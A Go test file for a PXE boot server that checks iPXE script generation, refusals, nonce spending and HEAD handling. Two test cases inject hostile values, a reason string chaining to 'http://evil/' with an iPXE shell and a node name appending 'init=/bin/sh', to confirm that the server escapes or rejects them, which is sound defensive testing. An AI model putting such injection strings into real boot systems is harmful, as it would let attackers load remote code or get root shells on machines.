package pxe

import (
	"context"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"sandai/inventory"
)

// get asks a server's handler as a machine with an address would.
func get(s *Server, from, target string, header ...string) *httptest.ResponseRecorder {
	req := httptest.NewRequest(http.MethodGet, target, nil)
	req.RemoteAddr = from + ":40000"
	for i := 0; i+1 < len(header); i += 2 {
		req.Header.Set(header[i], header[i+1])
	}
	w := httptest.NewRecorder()
	s.handler().ServeHTTP(w, req)
	return w
}

// TestScripts compares whole scripts.
func TestScripts(t *testing.T) {
	const script = "/boot.ipxe?mac=" + testMAC
	cases := map[string]struct {
		from, target string
		rack         func(*rack)
		config       func(*Config)
		spent        int
	}{
		"ramdisk":  {target: script, spent: 1},
		"mac-case": {target: "/boot.ipxe?mac=52-54-00-77-00-01", spent: 1},
		"ramdisk-other-places": {target: script, spent: 1, from: "10.77.0.21", config: func(c *Config) {
			c.AgentURL, c.Console, c.HTTPPort = "https://10.77.0.1:9443", "tty0", 80
			c.Node = func(_ context.Context, name string) (inventory.Node, error) {
				return inventory.Node{Name: name, Address: "10.77.0.21"}, nil
			}
		}},
		"ramdisk-no-such-node": {target: script, spent: 1, config: func(c *Config) {
			c.Node = func(context.Context, string) (inventory.Node, error) {
				return inventory.Node{}, inventory.Errorf(inventory.NotFound, "no such node")
			}
		}},
		"disk":     {target: script, rack: decided(inventory.BootDisk)},
		"newcomer": {target: "/boot.ipxe?mac=52:54:00:77:00:99"},
		"hostile-reason": {target: script, rack: func(r *rack) {
			r.nodes[testMAC] = inventory.BootDecision{Action: inventory.BootDisk, Node: "controller-1", Reason: "x || imgfree && chain http://evil/${net0/mac}\nshell # \"'"}
		}},
		"autoexec":     {target: "/autoexec.ipxe"},
		"autoexec-mac": {target: "/autoexec.ipxe?mac=" + testMAC},
	}
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			r := newRack(t)
			if c.rack != nil {
				c.rack(r)
			}
			from := c.from
			if from == "" {
				from = "10.77.0.11"
			}
			w := get(newServer(t, r, c.config), from, c.target)
			if w.Code != http.StatusOK {
				t.Fatalf("status %d: %s", w.Code, w.Body)
			}
			golden(t, "script/"+name+".ipxe", w.Body.String())
			if got := r.spent[testMAC]; got != c.spent {
				t.Errorf("the nonce was spent %d times, want %d", got, c.spent)
			}
		})
	}
}

// TestScriptRefused: what gets no script, and that nothing is spent for it.
func TestScriptRefused(t *testing.T) {
	const script = "/boot.ipxe?mac=" + testMAC
	cases := map[string]struct {
		from, target string
		rack         func(*rack)
		config       func(*Config)
		want         int
		spent        int
	}{
		"silent":               {target: script, rack: decided(inventory.BootSilent), want: http.StatusNotFound},
		"not a MAC":            {target: "/boot.ipxe?mac=nonsense", want: http.StatusBadRequest},
		"no MAC, no lease":     {target: "/boot.ipxe", want: http.StatusBadRequest},
		"from another address": {from: "10.77.0.66", target: script, want: http.StatusForbidden},
		"Decide fails":         {target: script, rack: func(r *rack) { r.err = context.DeadlineExceeded }, want: http.StatusInternalServerError},
		"a name that ends the command line": {target: script, spent: 1, want: http.StatusBadRequest, rack: func(r *rack) {
			d := r.nodes[testMAC]
			d.Node = "x init=/bin/sh"
			r.nodes[testMAC] = d
		}},
		"the store fails": {target: script, want: http.StatusInternalServerError, config: func(c *Config) {
			c.Node = func(context.Context, string) (inventory.Node, error) {
				return inventory.Node{}, context.DeadlineExceeded
			}
		}},
	}
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			r := newRack(t)
			if c.rack != nil {
				c.rack(r)
			}
			from := c.from
			if from == "" {
				from = "10.77.0.11"
			}
			w := get(newServer(t, r, c.config), from, c.target)
			if w.Code != c.want || w.Header().Get("Content-Type") != "application/json" {
				t.Errorf("status %d, want %d: %s", w.Code, c.want, w.Body)
			}
			if strings.Contains(w.Body.String(), "deadline") {
				t.Errorf("an inner error went out: %s", w.Body)
			}
			if r.spent[testMAC] != c.spent {
				t.Errorf("the nonce was spent %d times, want %d", r.spent[testMAC], c.spent)
			}
			if types := r.types(); len(types) != 1 || types[0] != inventory.EventRefused {
				t.Errorf("events %v", types)
			}
		})
	}
}

// TestScriptParked: the decision that Spend returns counts, not the one before.
func TestScriptParked(t *testing.T) {
	r := newRack(t)
	s := newServer(t, r, nil)
	s.boots = parking{r}
	if w := get(s, "10.77.0.11", "/boot.ipxe?mac="+testMAC); w.Code != http.StatusNotFound {
		t.Errorf("a node parked by this very request got %d: %s", w.Code, w.Body)
	}
}

type parking struct{ *rack }

func (p parking) Spend(ctx context.Context, m inventory.Machine) (inventory.BootDecision, error) {
	p.rack.mu.Lock()
	decided(inventory.BootSilent)(p.rack)
	p.rack.mu.Unlock()
	return p.rack.Spend(ctx, m)
}

// TestLook: HEAD spends nothing.
func TestLook(t *testing.T) {
	r := newRack(t)
	req := httptest.NewRequest(http.MethodHead, "/boot.ipxe?mac="+testMAC, nil)
	req.RemoteAddr = "10.77.0.11:1"
	w := httptest.NewRecorder()
	newServer(t, r, nil).handler().ServeHTTP(w, req)
	if w.Code != http.StatusOK || len(r.spent) != 0 || len(r.types()) != 0 {
		t.Errorf("status %d, spent %v, events %v", w.Code, r.spent, r.types())
	}
}
